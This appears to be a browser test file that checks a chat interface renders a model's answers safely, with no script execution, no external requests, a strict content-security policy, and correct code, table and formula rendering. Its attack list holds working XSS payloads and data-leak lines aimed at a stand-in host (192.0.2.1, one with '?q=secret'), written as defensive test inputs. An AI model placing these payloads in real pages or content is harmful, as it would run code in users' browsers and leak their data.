// What a model says is a stranger's text: no script of it runs, nothing it names is fetched, formulas and code are set.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { answers, reader, real, say, start } from './browser.mjs';

let house;
before(async () => (house = await start()));
after(() => house.close());
const standIn = { skip: real ? 'needs the stand-in’s fixed words' : false };

const attacks = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 2">',
  '<img src="http://192.0.2.1/leak.png">',
  '![leak](http://192.0.2.1/leak.png?q=secret)',
  '[click](javascript:window.hit=3)',
  '<a href="javascript:window.hit=4">click</a>',
  '<svg onload="window.hit=5"><style>@import "http://192.0.2.1/a.css"</style></svg>',
  '<iframe srcdoc="<script>parent.hit=6</script>"></iframe>',
  '<details open ontoggle="window.hit=7"><summary>x</summary></details>',
  '<style>body{background:url(http://192.0.2.1/b.png)}</style>',
  '<form action="http://192.0.2.1/"><input name=q></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=8>',
  '$\\href{javascript:window.hit=9}{x}$ $\\includegraphics{http://192.0.2.1/c.png}$ $\\htmlStyle{background:url(http://192.0.2.1/d.png)}{x}$',
  '```"><img/src=x/onerror=window.hit=10>\ncode\n```',
  '[a][ref]\n\n[ref]: javascript:window.hit=11',
  '<base href="http://192.0.2.1/"><link rel=stylesheet href=http://192.0.2.1/e.css><meta http-equiv=refresh content="0;url=http://192.0.2.1/">',
];

test('no script in an answer runs, and nothing leaves the origin', standIn, async () => {
  const { page, asked } = await reader(house);
  for (const attack of attacks) await say(page, `say: ${attack}`);
  await page.waitForTimeout(300);
  for (const anchor of await page.locator('.answer a').all()) {
    assert.match(await anchor.getAttribute('href'), /^(https?|mailto):/);
  }
  assert.equal(await page.evaluate(() => window.hit), undefined);
  const inside = await page.locator('.answer').evaluateAll((all) => {
    return all.flatMap((one) => [...one.querySelectorAll('script, img, iframe, style, form, input, link, base, meta')].map((node) => node.outerHTML));
  });
  assert.deepEqual(inside, []);
  assert.match(await answers(page).first().innerText(), /<script>/, 'shown as text, not hidden');
  const foreign = asked.filter((address) => !address.startsWith(house.origin) && !address.startsWith('blob:'));
  assert.deepEqual(foreign, []);
});

test('the policy is the one of the program', async () => {
  const context = await house.browser.newContext();
  const response = await context.request.get(`${house.origin}/`);
  const policy = response.headers()['content-security-policy'] ?? '';
  assert.match(policy, /default-src 'none'/);
  assert.doesNotMatch(policy, /unsafe/);
});

test('code is coloured and copied, tables and formulas are set', standIn, async () => {
  const { page, context, faults } = await reader(house);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await say(page, 'say: ```python\ndef f(x):\n    return "<b>" + x\n```\n\n|a|b|\n|-|-:|\n|1|2|\n\n$$\\frac{a}{b}$$ and \\(x^2\\), from $5 to $10.');
  assert.ok((await page.locator('.hljs-keyword').count()) > 0);
  await page.getByRole('button', { name: 'Copy code' }).click();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'def f(x):\n    return "<b>" + x');
  assert.equal(await page.locator('.code-bar span').innerText(), 'python');
  assert.equal(await page.locator('.answer td').count(), 2);
  assert.equal(await page.locator('.answer td').last().evaluate((cell) => getComputedStyle(cell).textAlign), 'right');
  assert.equal(await page.locator('.answer .katex-display').count(), 1);
  assert.equal(await page.locator('.answer .katex').count(), 2);
  assert.match(await answers(page).innerText(), /from \$5 to \$10/);
  // KaTeX's styles are set in spite of the policy: the parts of a fraction stand above each other.
  const styled = await page.locator('.katex .vlist > span').evaluateAll((all) => all.filter(({ style }) => style.top));
  assert.ok(styled.length >= 3);
  assert.deepEqual(faults, []);
});

test('formulas that are no formulas stay text', standIn, async () => {
  const { page, faults } = await reader(house);
  await say(page, 'say: $\\frac{$ and $\\def\\x{\\x\\x}\\x$ end');
  assert.match(await answers(page).innerText(), /end/);
  assert.deepEqual(faults, []);
});
